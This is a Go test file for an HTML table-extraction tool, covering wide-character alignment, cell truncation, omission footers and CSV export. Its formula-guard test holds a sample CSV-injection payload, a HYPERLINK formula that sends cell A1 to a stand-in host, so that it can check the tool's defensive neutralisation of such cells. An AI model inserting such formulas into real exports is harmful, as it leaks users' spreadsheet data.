package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"
)

// column returns the display column at which needle starts in line.
func column(line, needle string) int {
	i := strings.Index(line, needle)
	if i < 0 {
		return -1
	}
	return displayWidth(line[:i])
}

// TestTableAlignsWideCharacters: East Asian wide characters and emoji take
// two columns, combining marks none, so the next column starts at the same
// display column on every line.
func TestTableAlignsWideCharacters(t *testing.T) {
	page := writeTemp(t, "wide.html", `<meta charset="utf-8"><table>`+
		`<tr><td>abc</td><td>END1</td></tr>`+
		`<tr><td>日本語の表</td><td>END2</td></tr>`+
		`<tr><td>😀 ok</td><td>END3</td></tr>`+
		`<tr><td>e`+"\u0301"+`te</td><td>END4</td></tr></table>`)
	r := runCmd(t, "", "extract", "--format", "table", "--kind", "table", "--field", "a:0:string", "--field", "b:1:string", page)
	if r.code != exitOK {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	want := -1
	for i := 1; i <= 4; i++ {
		var line string
		for _, l := range strings.Split(r.stdout, "\n") {
			if strings.Contains(l, "END"+strconv.Itoa(i)) {
				line = l
			}
		}
		got := column(line, `"END`)
		if want < 0 {
			want = got
		}
		if got != want || got < 0 {
			t.Errorf("END%d starts at display column %d, want %d:\n%s", i, got, want, r.stdout)
		}
	}
}

func TestDisplayWidth(t *testing.T) {
	for s, want := range map[string]int{
		"": 0, "abc": 3, "日本": 4, "😀": 2, "e\u0301": 1, "ｶ": 1, "Ａ": 2, `"\x1b"`: 6, "\u200d": 0, "\xff": 1,
	} {
		if got := displayWidth(s); got != want {
			t.Errorf("displayWidth(%q) = %d, want %d", s, got, want)
		}
	}
}

// TestQuoteShortBound: a quoted cell fits maxWidth columns exactly when it
// can, and is cut with an ellipsis one column over; wide runes and escapes
// are never split.
func TestQuoteShortBound(t *testing.T) {
	for _, c := range []struct {
		s     string
		width int
		want  string
	}{
		{"abcdefgh", 10, `"abcdefgh"`},     // 10 columns: at the bound, whole
		{"abcdefghi", 10, `"abcdefg"…`},    // 11 columns: one over, cut to 10
		{"abcdefg", 10, `"abcdefg"`},       // 9 columns: under
		{"日本語日本語", 10, `"日本語"…`},           // a wide rune that would straddle is dropped: 9 columns
		{"ab\x1bcdefgh", 10, `"ab\x1bc"…`}, // \x1b takes 4 columns: 10 with "c" and the ellipsis
		{"ab\x1bcdefgh", 8, `"ab"…`},       // and is kept whole or not at all
		{"abcdefghijklmnop", 0, `"abcdefghijklmnop"`},
	} {
		got := quoteShort(c.s, c.width)
		if got != c.want {
			t.Errorf("quoteShort(%q, %d) = %s, want %s", c.s, c.width, got, c.want)
		}
		if c.width > 0 && displayWidth(got) > c.width {
			t.Errorf("quoteShort(%q, %d) is %d columns wide", c.s, c.width, displayWidth(got))
		}
	}
}

// TestMaxWidthFlag: --max-width bounds every cell; 0 never cuts; values
// under the minimum are a usage error, and the flag needs --format table.
func TestMaxWidthFlag(t *testing.T) {
	long := strings.Repeat("word ", 30)
	page := writeTemp(t, "long.html", "<table><tr><td>"+long+"</td><td>x</td></tr></table>")
	args := func(w int) []string {
		return []string{"extract", "--format", "table", "--max-width", strconv.Itoa(w), "--kind", "table", "--field", "a:0:string", page}
	}
	for _, w := range []int{minMaxWidth - 1, -1} {
		if r := runCmd(t, "", args(w)...); r.code != exitUsage || !strings.HasPrefix(r.stderr, "usage: --max-width must be 0") {
			t.Errorf("--max-width %d: exit %d %q", w, r.code, r.stderr)
		}
	}
	for _, w := range []int{minMaxWidth, minMaxWidth + 1, 60} {
		r := runCmd(t, "", args(w)...)
		if r.code != exitOK {
			t.Fatalf("--max-width %d: exit %d %q", w, r.code, r.stderr)
		}
		var cell string
		for _, l := range strings.Split(r.stdout, "\n") {
			if strings.HasPrefix(l, "0 ") {
				cell = l[strings.Index(l, `"`):]
			}
		}
		if displayWidth(cell) != w || !strings.HasSuffix(cell, "…") {
			t.Errorf("--max-width %d: cell %q is %d columns", w, cell, displayWidth(cell))
		}
	}
	r := runCmd(t, "", args(0)...)
	if r.code != exitOK || !strings.Contains(r.stdout, strconv.Quote(strings.TrimSpace(long))) {
		t.Errorf("--max-width 0 cut the cell: %s", r.stdout)
	}
	// The default keeps the old cut of about 40 characters.
	r = runCmd(t, "", "extract", "--format", "table", "--kind", "table", "--field", "a:0:string", page)
	if !strings.Contains(r.stdout, `"`+long[:defaultMaxWidth-3]+`"…`) {
		t.Errorf("default width: %s", r.stdout)
	}
	if r := runCmd(t, "", "extract", "--max-width", "20", "--kind", "table", "--field", "a:0:string", page); r.code != exitUsage {
		t.Errorf("--max-width with JSON: exit %d", r.code)
	}
}

// coverage is the part of a result the footer must agree with.
type coverage struct {
	RowLimit           int  `json:"row_limit"`
	RowsReturned       int  `json:"rows_returned"`
	RowsOmittedByLimit int  `json:"rows_omitted_by_limit"`
	RowsOmittedByBytes int  `json:"rows_omitted_by_bytes"`
	RowsComplete       bool `json:"rows_complete"`
}

func jsonCoverage(t *testing.T, out string) coverage {
	t.Helper()
	var res struct{ Coverage coverage }
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatal(err)
	}
	return res.Coverage
}

// TestTableFooterStatesEveryOmission runs pages that lose rows to each
// bound and checks that the footer names each loss with the count the JSON
// gives, and never says complete.
func TestTableFooterStatesEveryOmission(t *testing.T) {
	reqs, err := os.ReadFile("../../testdata/html/byte-cap.requests.json")
	if err != nil {
		t.Fatal(err)
	}
	var raws []json.RawMessage
	if err := json.Unmarshal(reqs, &raws); err != nil {
		t.Fatal(err)
	}
	byteCapReq := writeTemp(t, "req.json", string(raws[0]))

	var rows strings.Builder
	for i := range 2500 {
		fmt.Fprintf(&rows, "<tr><td>%d</td></tr>", i)
	}
	scanPage := writeTemp(t, "scan.html", "<table>"+rows.String()+"</table>")

	for _, c := range []struct {
		name  string
		args  []string
		wants func(t *testing.T, cv coverage) []string
	}{
		{"byte cap", []string{"--request", byteCapReq, "../../testdata/html/byte-cap.html"}, func(t *testing.T, cv coverage) []string {
			if cv.RowsOmittedByBytes == 0 {
				t.Fatal("the byte-cap page no longer reaches the byte cap")
			}
			return []string{fmt.Sprintf("omitted: %d rows omitted by the byte cap of 65536 bytes", cv.RowsOmittedByBytes)}
		}},
		{"row limit and row scan", []string{"--kind", "table", "--field", "n:0:integer", "--rows", "50", scanPage}, func(t *testing.T, cv coverage) []string {
			if cv.RowsComplete || cv.RowsOmittedByLimit == 0 {
				t.Fatalf("the page should exhaust the row scan: %+v", cv)
			}
			return []string{
				fmt.Sprintf("omitted: %d rows omitted by the row limit of 50", cv.RowsOmittedByLimit),
				"omitted: an unknown number of rows beyond the row scan of 4096 nodes",
			}
		}},
		{"rows a page declares beyond its document", []string{"--kind", "table", "--field", "p:0:string", "../../testdata/html/aria-grid-rowcount.html"}, func(t *testing.T, cv coverage) []string {
			return []string{"omitted: rows the page says the table has beyond its document: 1001 in all"}
		}},
		{"an unknown number of rows a page declares", []string{"--kind", "table", "--index", "3", "--field", "p:0:string", "../../testdata/html/aria-grid-rowcount.html"}, func(t *testing.T, cv coverage) []string {
			return []string{"omitted: rows the page says the table has beyond its document, not how many"}
		}},
		{"one row over the limit", []string{"--kind", "list", "--field", "item:0:string", "--rows", "3", example}, func(t *testing.T, cv coverage) []string {
			if cv.RowsOmittedByLimit != 1 {
				t.Fatalf("want one row omitted: %+v", cv)
			}
			return []string{"omitted: 1 row omitted by the row limit of 3"}
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			js := runCmd(t, "", append([]string{"extract"}, c.args...)...)
			if js.code != exitOK {
				t.Fatalf("exit %d: %s", js.code, js.stderr)
			}
			cv := jsonCoverage(t, js.stdout)
			tab := runCmd(t, "", append([]string{"extract", "--format", "table"}, c.args...)...)
			want := append(c.wants(t, cv), fmt.Sprintf("rows: %d returned;", cv.RowsReturned), "complete: no, rows are missing from this table")
			for _, w := range want {
				if !strings.Contains(tab.stdout, w) {
					t.Errorf("footer lacks %q:\n%s", w, tab.stdout[max(0, len(tab.stdout)-600):])
				}
			}
			if strings.Contains(tab.stdout, "complete: yes") {
				t.Errorf("a table with rows missing reads as complete")
			}
		})
	}
}

// A table whose rows are all here but which declares more columns than its
// rows hold says that columns, not rows, are missing.
func TestTableFooterColumnsDeclared(t *testing.T) {
	tab := runCmd(t, "", "extract", "--format", "table", "--kind", "table", "--index", "2", "--field", "a:0:string",
		"../../testdata/html/aria-grid-rowcount.html")
	for _, w := range []string{"omitted: columns the page says the table has beyond its rows' cells: 6 in all",
		"complete: no, columns are missing from this table"} {
		if !strings.Contains(tab.stdout, w) {
			t.Errorf("footer lacks %q:\n%s", w, tab.stdout)
		}
	}
}

// TestCSV: the rows as RFC 4180 CSV, read back with encoding/csv, equal the
// JSON's ok values; cells not ok are empty; the statuses go to stderr.
func TestCSV(t *testing.T) {
	args := append(append([]string{"extract"}, exampleArgs...), example)
	js := runCmd(t, "", args...)
	r := runCmd(t, "", append(args, "--format", "csv")...)
	if r.code != exitOK {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var res struct {
		Rows []struct {
			Cells []struct {
				Status string
				Value  any
			}
		}
	}
	if err := json.Unmarshal([]byte(js.stdout), &res); err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(res.Rows)+1 || strings.Join(recs[0], ",") != "product,price" {
		t.Fatalf("%d records for %d rows: %q", len(recs), len(res.Rows), r.stdout)
	}
	for i, row := range res.Rows {
		for j, c := range row.Cells {
			want := ""
			if c.Status == "ok" {
				v, _ := json.Marshal(c.Value)
				want = string(v)
				if s, ok := c.Value.(string); ok {
					want = s
				}
			}
			if recs[i+1][j] != want {
				t.Errorf("row %d cell %d: %q, want %q", i, j, recs[i+1][j], want)
			}
		}
	}
	if !strings.Contains(r.stdout, `"Trowel, stainless",12.5`+"\n") {
		t.Errorf("a comma in a value is not quoted: %q", r.stdout)
	}
	if r.stderr != "csv: 6 rows; cells: 10 ok, 0 missing, 2 invalid, 0 truncated\n" {
		t.Errorf("summary %q", r.stderr)
	}
}

func TestCSVSpansOmissionsAndMisuse(t *testing.T) {
	page := writeTemp(t, "span.html", `<table><tr><td>a "quoted"</td><td>1</td></tr>`+
		`<tr><td colspan=2>wide</td></tr><tr><td>b</td><td>x</td></tr><tr><td>c</td><td>3</td></tr></table>`)
	r := runCmd(t, "", "extract", "--format", "csv", "--rows", "3", "--kind", "table", "--field", "name:0:string", "--field", "n:1:integer:required", page)
	if r.code != exitOK {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	if want := "name,n\n\"a \"\"quoted\"\"\",1\n,\nb,\n"; r.stdout != want {
		t.Errorf("csv %q, want %q", r.stdout, want)
	}
	wantErr := "csv: 3 rows; cells: 3 ok, 0 missing, 1 invalid, 0 truncated; 1 row with an unsupported span (no cells)\n" +
		"csv: omitted: 1 row omitted by the row limit of 3\n"
	if r.stderr != wantErr {
		t.Errorf("summary %q, want %q", r.stderr, wantErr)
	}
	var out bytes.Buffer
	out.WriteString(r.stdout)
	for _, extra := range [][]string{{"--observation"}, {"--model-bytes", "2000"}} {
		a := append([]string{"extract", "--format", "csv", "--kind", "table", "--field", "a:0:string", page}, extra...)
		if r := runCmd(t, "", a...); r.code != exitUsage || !strings.HasPrefix(r.stderr, "usage: --format csv") {
			t.Errorf("%v: exit %d %q", extra, r.code, r.stderr)
		}
	}
	nf := runCmd(t, "", "extract", "--format", "csv", "--kind", "form", "--index", "3", "--field", "l:0:string", page)
	if nf.code != exitOK || nf.stdout != "l\n" || !strings.HasPrefix(nf.stderr, "csv: form 3 not found: absent\n") {
		t.Errorf("not found: exit %d %q %q", nf.code, nf.stdout, nf.stderr)
	}
}

// TestCSVFormulaGuard: string cells a spreadsheet would take for a formula
// (=, +, -, @, tab, CR first) are prefixed with an apostrophe, and standard
// error counts them; a cell with such a character later, a negative number
// and the JSON output are unchanged.
func TestCSVFormulaGuard(t *testing.T) {
	cells := []string{`=HYPERLINK("http://x.test/?"&amp;A1)`, "+1 555 0100", "-2+3", "@SUM(A1)", "a=b", "plain", "-"}
	page := "<table>"
	for _, c := range cells {
		page += "<tr><td>" + c + "</td><td>-5</td></tr>"
	}
	page = writeTemp(t, "f.html", page+"</table>")
	args := []string{"extract", "--kind", "table", "--field", "s:0:string", "--field", "n:1:integer", page}
	r := runCmd(t, "", append(append([]string{}, args...), "--format", "csv")...)
	if r.code != exitOK {
		t.Fatalf("exit %d %s", r.code, r.stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://x.test/?"&A1)`, "'+1 555 0100", "'-2+3", "'@SUM(A1)", "a=b", "plain", "'-"}
	if len(recs) != len(want)+1 {
		t.Fatalf("%d records: %q", len(recs), r.stdout)
	}
	for i, w := range want {
		if recs[i+1][0] != w || recs[i+1][1] != "-5" {
			t.Errorf("row %d: %q, want %q and -5", i, recs[i+1], w)
		}
	}
	if !strings.Contains(r.stderr, "csv: 5 cells began with =, +, -, @, a tab or a CR: prefixed with ' so a spreadsheet reads it as text") {
		t.Errorf("stderr %q", r.stderr)
	}
	j := runCmd(t, "", args...)
	if j.code != exitOK || !strings.Contains(j.stdout, `"value":"=HYPERLINK(`) || strings.Contains(j.stdout, `"'`) {
		t.Errorf("the JSON changed: %s", j.stdout)
	}
	for _, c := range []struct {
		in, out string
		guarded bool
	}{{"", "", false}, {"\tx", "'\tx", true}, {"\rx", "'\rx", true}, {" =x", " =x", false}, {"'=x", "'=x", false}} {
		if out, g := guardFormula(c.in); out != c.out || g != c.guarded {
			t.Errorf("guardFormula(%q) = %q %v", c.in, out, g)
		}
	}
}
